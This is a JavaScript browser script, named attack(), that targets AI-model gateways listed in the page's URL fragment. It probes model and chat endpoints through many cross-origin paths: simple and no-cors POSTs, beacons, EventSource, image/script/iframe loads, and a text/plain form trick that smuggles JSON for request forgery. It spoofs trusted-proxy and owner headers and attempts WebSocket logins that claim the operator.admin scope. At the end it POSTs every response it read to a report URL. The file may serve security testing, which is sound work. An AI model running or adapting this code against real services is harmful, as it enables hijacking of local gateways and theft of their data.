/**
 * Runs in the browser: tries whatever a page may, on each gateway that the page's fragment names, and
 * reports what it could read.
 */
async function attack() {
  const plan = JSON.parse(decodeURIComponent(location.hash.slice(1)));
  const attempts = [];
  const chat = JSON.stringify({ messages: [{ role: "user", content: "hostile" }] });
  const stream = JSON.stringify({ stream: true, messages: [{ role: "user", content: "hostile" }] });
  const inTime = (work) =>
    Promise.race([
      work,
      new Promise((resolve) => setTimeout(() => resolve("nothing in time"), 4000)),
    ]);
  const tryIt = async (what, work) => {
    const outcome = await inTime(work()).catch((error) => `failed: ${error.name}`);
    attempts.push({ what, outcome });
  };
  const read = async (url, init = {}) => {
    const response = await fetch(url, init);
    if (response.type === "opaque") return "opaque";
    return `${response.status} ${(await response.text()).slice(0, 300)}`;
  };
  const element = (make) =>
    new Promise((resolve) => {
      const made = make();
      made.onload = () => resolve("loaded");
      made.onerror = () => resolve("error");
      document.body.append(made);
    });
  for (const target of plan.targets) {
    const on = (path) => `${target}${path}`;
    const chatUrl = on("/v1/chat/completions");
    for (const path of ["/v1/models", "/openapi.json", "/metrics", "/readyz", "/"]) {
      await tryIt(`GET ${on(path)}`, () => read(on(path)));
    }
    const text = { "content-type": "text/plain" };
    const json = { "content-type": "application/json" };
    const sends = [
      ["simple POST", { method: "POST", headers: text, body: chat }],
      ["simple POST, stream", { method: "POST", headers: text, body: stream }],
      ["no-cors POST", { method: "POST", headers: text, body: chat, mode: "no-cors" }],
      ["POST as JSON", { method: "POST", headers: json, body: chat }],
      ["POST with cookies", { method: "POST", headers: text, body: chat, credentials: "include" }],
      ["POST with a guess", { method: "POST", headers: { authorization: "Bearer x" }, body: chat }],
      ["POST with a proxy's headers", {
        method: "POST",
        headers: { "x-forwarded-for": "192.0.2.1", "x-real-ip": "192.0.2.1", "x-user": "owner" },
        body: chat,
      }],
      ["GET with a proxy's headers", { headers: { "x-forwarded-for": "192.0.2.1" } }],
    ];
    for (const [what, init] of sends) {
      const url = init.method === undefined ? on("/v1/models") : chatUrl;
      await tryIt(`${what} ${url}`, () => read(url, init));
    }
    await tryIt(
      `no-cors GET ${on("/v1/models")}`,
      () => read(on("/v1/models"), { mode: "no-cors" }),
    );
    await tryIt(`beacon ${chatUrl}`, () => {
      const isTaken = navigator.sendBeacon(chatUrl, new Blob([chat], { type: "text/plain" }));
      return Promise.resolve(isTaken ? "opaque" : "error");
    });
    await tryIt(`EventSource ${on("/v1/models")}`, () =>
      new Promise((resolve) => {
        const source = new EventSource(on("/v1/models"));
        source.onopen = () => resolve("200 opened");
        source.onmessage = (event) => resolve(`200 ${event.data}`);
        source.onerror = () => {
          source.close();
          resolve("error");
        };
      }));
    for (const id of ["openclaw-control-ui", "cli", "gateway-client"]) {
      await tryIt(`WebSocket as ${id} ${target}`, () =>
        new Promise((resolve) => {
          const socket = new WebSocket(target.replace("http", "ws"));
          socket.onerror = () => resolve("error");
          socket.onclose = (event) => resolve(`closed ${event.code} ${event.reason}`);
          socket.onmessage = ({ data }) => {
            const frame = JSON.parse(data);
            if (frame.type === "res") {
              resolve(frame.ok ? `hello ${data.slice(0, 200)}` : `refused ${frame.error.message}`);
              return socket.close();
            }
            const mode = { cli: "cli", "gateway-client": "backend" }[id] ?? "webchat";
            const client = { id, version: "1", platform: "web", mode };
            const scopes = ["operator.admin"];
            const params = {
              minProtocol: 4,
              maxProtocol: 4,
              client,
              role: "operator",
              scopes,
              caps: [],
            };
            socket.send(JSON.stringify({ type: "req", id: "1", method: "connect", params }));
          };
        }));
    }
    await tryIt(
      `img ${on("/v1/models")}`,
      () => element(() => Object.assign(document.createElement("img"), { src: on("/v1/models") })),
    );
    await tryIt(
      `script ${on("/v1/models")}`,
      () =>
        element(() => Object.assign(document.createElement("script"), { src: on("/v1/models") })),
    );
    await tryIt(`iframe ${on("/v1/models")}`, async () => {
      let frame;
      await element(() => {
        frame = Object.assign(document.createElement("iframe"), { src: on("/v1/models") });
        return frame;
      });
      return frame?.contentDocument?.body?.textContent?.slice(0, 300) ?? "opaque";
    });
    await tryIt(`form ${chatUrl}`, async () => {
      const frame = document.createElement("iframe");
      frame.name = `form${attempts.length}`;
      document.body.append(frame);
      const form = Object.assign(document.createElement("form"), {
        action: chatUrl,
        method: "POST",
        enctype: "text/plain",
        target: frame.name,
      });
      // A text/plain form writes name=value: the two halves make the JSON.
      const [name, value] = ['{"messages":[{"role":"user","content":"hostile"}],"x":"', '"}'];
      form.append(Object.assign(document.createElement("input"), { name, value }));
      document.body.append(form);
      const loaded = new Promise((resolve) => frame.onload = () => resolve("loaded"));
      form.submit();
      await loaded;
      return frame.contentDocument?.body?.textContent?.slice(0, 300) ?? "opaque";
    });
  }
  const url = `${plan.reportUrl}?id=${plan.id}`;
  await fetch(url, { method: "POST", mode: "no-cors", body: JSON.stringify(attempts) });
}

attack();
